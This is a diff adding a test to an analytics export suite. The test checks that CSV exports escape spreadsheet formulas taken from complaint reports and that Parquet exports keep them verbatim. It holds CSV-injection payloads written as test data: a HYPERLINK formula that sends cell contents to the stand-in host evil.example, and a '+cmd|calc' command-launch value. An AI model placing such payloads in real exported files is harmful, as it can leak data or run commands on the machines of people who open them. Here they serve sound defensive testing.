@@ -94,6 +94,28 @@ describeEachBackend('export of the analytics views', (db) => {
     expect(ips.filter((ip) => ours.includes(ip))).toEqual(ours);
   });
 
+  it('CSV never carries a spreadsheet formula from a complaint report (a leading \' is added); Parquet keeps the text as it is', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+    const [message] = await db().query<{ id: number }>(
+      `insert into repwatch.mail_message (stream, mailbox, message_key, sha256, byte_size, stored_at, classification)
+       values ('jmrp', 'formulas', 'formula-1', 'sha-formula-1', 100, '2026-09-01T08:00:00Z', 'arf') returning id`,
+    );
+    await db().query(
+      `insert into repwatch.feedback_report (message_ref, mailbox, report_format, feedback_type, is_complaint, source_ip, source_ip_origin,
+         complained_at, day, incidents, reported_domain, original_from_domain, campaign, subject, user_agent)
+       values ($1, 'formulas', 'arf', 'abuse', true, '192.0.2.200', 'Source-IP', '2026-09-01T07:00:00Z', '2026-09-01', 1, '@SUM(1+1)', 'shop.example', $2, 'x', '+cmd|calc')`,
+      [message!.id, formula],
+    );
+    const csv = join(dir, 'formulas.csv');
+    await exportTable(db(), { table: 'complaint', format: 'csv', out: csv, from: '2026-09-01', to: '2026-09-01' });
+    const [row] = Papa.parse<Row>(readFileSync(csv, 'utf8'), { header: true, skipEmptyLines: true }).data;
+    expect(row).toMatchObject({ campaign: `'${formula}`, reported_domain: "'@SUM(1+1)", user_agent: "'+cmd|calc", original_from_domain: 'shop.example', day: '2026-09-01' });
+    const parquet = join(dir, 'formulas.parquet');
+    await exportTable(db(), { table: 'complaint', format: 'parquet', out: parquet, from: '2026-09-01', to: '2026-09-01' });
+    const [kept] = (await parquetReadObjects({ file: await asyncBufferFromFile(parquet) })) as Row[];
+    expect(kept).toMatchObject({ campaign: formula, reported_domain: '@SUM(1+1)', user_agent: '+cmd|calc' });
+  });
+
   it('writes one Parquet row group per batch (the file is streamed, not built in memory)', async () => {
     const out = join(dir, 'groups.parquet');
     const { rows } = await exportTable(db(), { table: 'ip_day', format: 'parquet', out, batchSize: 50 });
